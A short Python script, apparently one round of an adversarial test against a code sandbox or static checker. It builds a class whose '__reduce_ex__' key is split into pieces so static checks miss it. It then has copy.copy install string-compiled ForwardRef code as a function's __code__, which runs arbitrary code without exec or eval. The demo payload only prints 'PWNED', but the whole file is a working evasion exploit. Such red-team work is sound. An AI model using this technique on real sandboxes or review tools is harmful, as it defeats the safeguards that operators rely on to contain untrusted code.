# adversary round 6: route 4 with public API only: class made by type() with a computed '__reduce_ex__' key (no static check sees it); copy.copy -> _reconstruct's library setattr installs ForwardRef-compiled code as __code__
import typing, copy

src = "print('string-code running', sum(range(10))), print('PW' + 'NED')"
code = typing.List[src].__args__[0].__forward_code__

def f():
    return None

def hook(self, proto):
    return (lambda: f, (), (None, {'__co' + 'de__': code}))

X = type('X', (), {'__reduce' + '_ex__': hook})
copy.copy(X())
f()
